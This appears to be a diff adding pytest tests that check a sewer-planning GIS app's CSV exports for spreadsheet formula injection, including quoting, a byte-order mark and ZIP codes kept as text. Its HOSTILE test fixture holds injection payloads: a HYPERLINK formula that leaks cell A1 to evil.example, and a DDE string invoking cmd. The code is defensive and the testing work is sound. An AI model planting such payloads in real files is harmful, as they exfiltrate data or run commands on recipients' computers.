@@ -1,0 +1,146 @@
+"""Every CSV sewerplan writes opens in a spreadsheet without running anything (issue 11, finding 7).
+
+The results CSV from the web page and from `sewerplan analyze --out x.csv`, the network report CSV and the notices
+mailing list all go through ``layers.write.write_csv``: formula-safe, every field quoted, UTF-8 with a BOM, ZIP
+codes as text.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+
+from gisapp import create_app
+from gisapp.cli import main
+from layers.letters import write_mailing_list
+from layers.sample import sample_town
+from layers.write import write_layers
+
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "MÜLLER-ŽÁK § 4": "MÜLLER-ŽÁK § 4",
+    "O'Brien\rline two": "O'Brien\rline two",
+}
+
+
+def rows_of(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def assert_every_field_quoted(data: bytes) -> None:
+    """With QUOTE_ALL every record starts and ends with a quote, so a CR inside a cell cannot end the record."""
+    text = data.decode("utf-8-sig")
+    for record in text.split('"\r\n'):
+        if record:
+            assert record.startswith('"'), record[:40]
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory):
+    path = tmp_path_factory.mktemp("csv") / "town.gpkg"
+    town = sample_town(60)
+    parcels = town["parcels"]
+    for k, value in enumerate(HOSTILE):
+        parcels.loc[k, "owner_name"] = value
+    parcels.loc[0, "mail_zip"] = "01234"
+    write_layers(str(path), town)
+    return path
+
+
+def check_results_csv(data: bytes, n_parcels: int) -> None:
+    rows = rows_of(data)
+    header, body = rows[0], rows[1:]
+    assert len(body) == n_parcels  # no row split by a carriage return
+    assert_every_field_quoted(data)
+    owners = [dict(zip(header, r, strict=True))["owner_name"] for r in body]
+    for value, safe in HOSTILE.items():
+        assert safe in owners, value
+    assert not any(o[:1] in ("=", "+", "-", "@", "\t", "\r") for o in owners)
+    zips = [dict(zip(header, r, strict=True))["mail_zip"] for r in body]
+    assert "01234" in zips
+
+
+def test_analyze_out_csv_is_formula_safe(hostile_store, tmp_path):
+    out = tmp_path / "results.csv"
+    result = CliRunner().invoke(
+        main, ["analyze", "--profile", "fort-plain", "--data", str(hostile_store), "--out", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    check_results_csv(out.read_bytes(), 60)
+
+
+def test_web_results_csv_is_formula_safe(hostile_store, tmp_path):
+    store = tmp_path / "store.gpkg"
+    store.write_bytes(hostile_store.read_bytes())
+    assert (
+        CliRunner()
+        .invoke(main, ["analyze", "--profile", "fort-plain", "--data", str(store), "--out", str(store)])
+        .exit_code
+        == 0
+    )
+    app = create_app(
+        {
+            "TESTING": True,
+            "STORE": str(store),
+            "USERS_DB": str(tmp_path / "users.sqlite"),
+            "UPLOAD_FOLDER": str(tmp_path / "uploads"),
+            "SECRET_KEY": "test",
+        }
+    )
+    response = app.test_client().get("/api/results.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    check_results_csv(response.data, 60)
+
+
+def test_network_report_csv_is_formula_safe(tmp_path):
+    town = sample_town(60)
+    mains = town["mains"]
+    mains.loc[0, "main_id"] = "=1+1"
+    mains.loc[0, "diameter_in"] = 4  # below the 8-inch minimum: reported with its ID
+    data = tmp_path / "net.gpkg"
+    write_layers(str(data), town)
+    out = tmp_path / "report.csv"
+    result = CliRunner().invoke(
+        main, ["network", "check", "--profile", "fort-plain", "--data", str(data), "--out", str(out)]
+    )
+    assert result.exit_code in (0, 1), result.output
+    rows = rows_of(out.read_bytes())
+    ids = [dict(zip(rows[0], r, strict=True))["feature_id"] for r in rows[1:]]
+    assert "'=1+1" in ids and "=1+1" not in ids
+
+
+def test_mailing_list_uses_the_same_writer(tmp_path):
+    rows = pd.DataFrame({"name_line_1": list(HOSTILE), "zip": ["01234"] * len(HOSTILE)})
+    path = write_mailing_list(tmp_path / "m.csv", rows, bom=True)
+    data = Path(path).read_bytes()
+    assert_every_field_quoted(data)
+    body = rows_of(data)[1:]
+    assert [r[0] for r in body] == list(HOSTILE.values()) and {r[1] for r in body} == {"01234"}
+
+
+@pytest.mark.parametrize(
+    ("values", "expected"),
+    [
+        (pd.Series([1234, 12345, 123456789]), ["01234", "12345", "123456789"]),
+        (pd.Series([1234.0, None]), ["01234", ""]),
+        (pd.Series(["01234", "12345-6789"]), ["01234", "12345-6789"]),
+    ],
+)
+def test_zip_codes_stay_text(tmp_path, values, expected):
+    from layers.write import write_csv
+
+    path = write_csv(tmp_path / "z.csv", pd.DataFrame({"mail_zip": values, "units": range(len(values))}))
+    body = rows_of(Path(path).read_bytes())[1:]
+    assert [r[0] for r in body] == expected
+    assert [r[1] for r in body] == [str(n) for n in range(len(values))]  # numbers stay numbers
